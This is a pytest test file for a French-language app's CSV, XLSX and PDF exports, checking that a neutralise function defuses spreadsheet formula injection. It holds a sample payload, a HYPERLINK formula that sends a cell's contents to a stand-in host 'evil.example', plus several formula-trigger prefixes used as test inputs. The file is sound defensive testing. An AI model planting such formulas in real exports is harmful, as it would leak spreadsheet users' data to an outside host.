import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from ess_metro.exports import csv_response, neutralise, xlsx_bytes
from ess_metro.pdf import render_pdf

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'


def test_csv_is_french_spreadsheet_friendly():
    response = csv_response("x.csv", ["Nom", "Montant"], [["Léa", Decimal("12500.5")]])
    assert response.streaming
    body = response.getvalue().decode("utf-8")
    assert body.startswith("\ufeffNom;Montant")
    assert "Léa;12500,50" in body


def test_xlsx_keeps_amounts_as_numbers():
    data = xlsx_bytes("Feuille", ["Nom", "Montant"], [["Léa", Decimal("12500.50")]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "Léa"
    assert float(sheet["B2"].value) == 12500.5


def test_pdf_base_renders_page_numbers(db):
    pdf = render_pdf("pdf/base.html", {})
    assert pdf.startswith(b"%PDF")
    assert len(PdfReader(io.BytesIO(pdf)).pages) == 1


@pytest.mark.parametrize(
    "text", [HOSTILE, "+33 4 76", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\n=1"]
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Léa", "12 500,00 €", "a=b", "Atelier - Vélo", "'=1"])
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text


def test_csv_neutralises_text_but_not_numbers():
    rows = [[HOSTILE, Decimal("-12.5"), -3, "-3"]]
    body = csv_response("x.csv", ["=A", "B", "C", "D"], rows).getvalue().decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert parsed == [["'=A", "B", "C", "D"], ["'" + HOSTILE, "-12,50", "-3", "'-3"]]


def test_xlsx_keeps_numbers_and_dates_typed_and_text_inert():
    when = datetime.date(2026, 3, 1)
    data = xlsx_bytes("Feuille", ["Nom"], [[HOSTILE, Decimal("-12.50"), -3, "-3", when, None]])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = sheet[2]
    assert [cell.data_type for cell in cells[:5]] == ["s", "n", "n", "s", "d"]
    assert cells[0].value == "'" + HOSTILE
    assert (cells[1].value, cells[1].number_format) == (-12.5, '#,##0.00 "€"')
    assert (cells[2].value, cells[3].value) == (-3, "'-3")
    assert cells[4].value.date() == when
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
